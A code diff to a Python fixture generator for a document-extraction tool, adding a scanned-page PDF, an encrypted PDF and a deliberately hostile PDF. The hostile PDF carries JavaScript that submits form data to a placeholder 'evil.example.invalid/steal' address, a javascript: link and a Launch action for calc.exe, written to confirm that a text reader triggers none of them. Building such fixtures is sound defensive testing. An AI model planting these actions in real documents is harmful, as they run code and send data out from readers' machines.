@@ -64,6 +64,12 @@ def main():
         "The Council met in Brussels on 8 December 2025.",
         "Ministers welcomed progress on artificial intelligence.",
     ]))
+    # A page with drawing and no text layer, as a scanner makes.
+    write("refused/scanned.pdf", pdf_bytes([], content="0.5 g 72 72 468 648 re f\n"))
+    password = encrypted_pdf(pdf_bytes(["The Council met in Brussels on 8 December 2025."]))
+    if password:
+        write("refused/password.pdf", password)
+    write("hostile/pdf-actions.pdf", pdf_with_actions())
     write("formats/news-page.html", NEWS_PAGE)
     write("formats/latin1-page.html", LATIN1_PAGE.encode("cp1252"))
 
@@ -93,19 +99,25 @@ def lie_about_size(zip_data):
     return bytes(data)
 
 
-def pdf_bytes(lines):
-    """A minimal valid PDF with one page of Helvetica text, one line per paragraph."""
+def pdf_bytes(lines, catalog="", page="", objects=(), content=None):
+    """A minimal valid PDF with one page of Helvetica text, one line per paragraph.
+
+    `catalog` and `page` add entries to those dictionaries; `objects` are more objects,
+    numbered from 6; `content` replaces the page's text with a content stream of its own.
+    """
     stream = "BT /F1 12 Tf 72 720 Td 16 TL\n"
     for i, line in enumerate(lines):
         stream += "(%s) Tj T* T*\n" % line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
     stream += "ET\n"
+    if content is not None:
+        stream = content
     objects = [
-        "<< /Type /Catalog /Pages 2 0 R >>",
+        "<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
         "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s>>" % page,
         "<< /Length %d >>\nstream\n%sendstream" % (len(stream), stream),
         "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
-    ]
+    ] + list(objects)
     out = b"%PDF-1.4\n"
     offsets = []
     for i, obj in enumerate(objects, 1):
@@ -117,6 +129,42 @@ def pdf_bytes(lines):
         out += ("%010d 00000 n \n" % off).encode()
     out += ("trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)).encode()
     return out
+
+
+def pdf_with_actions():
+    """A PDF that tries everything a PDF can: JavaScript on open and on page open, a
+    javascript: link, a launch action, a form submission to a remote address, remote
+    content. A reader that only takes the text must do none of it."""
+    js = "app.alert('pdf script ran'); this.submitForm('https://evil.example.invalid/steal');"
+    return pdf_bytes(
+        ["The Council met in Brussels on 8 December 2025.",
+         "Ministers welcomed progress on artificial intelligence."],
+        catalog="/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> "
+                "/AcroForm << /Fields [] >> ",
+        page="/Annots [7 0 R 8 0 R] /AA << /O 6 0 R >> ",
+        objects=[
+            "<< /Type /Action /S /JavaScript /JS (%s) >>" % js.replace("(", "\\(").replace(")", "\\)"),
+            "<< /Type /Annot /Subtype /Link /Rect [72 700 400 720] "
+            "/A << /S /URI /URI (javascript:app.alert\\('link'\\)) >> >>",
+            "<< /Type /Annot /Subtype /Link /Rect [72 660 400 680] "
+            "/A << /S /Launch /F (calc.exe) /NewWindow true >> >>",
+        ])
+
+
+def encrypted_pdf(plain):
+    """`plain` encrypted with a user password (RC4, so pypdf needs no crypto library), or
+    None when pypdf is not installed (the committed file is kept). pypdf adds a random
+    document id, so this file changes each time it is written."""
+    try:
+        import io
+        from pypdf import PdfReader, PdfWriter
+    except ImportError:
+        return None
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain)))
+    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
 
 
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
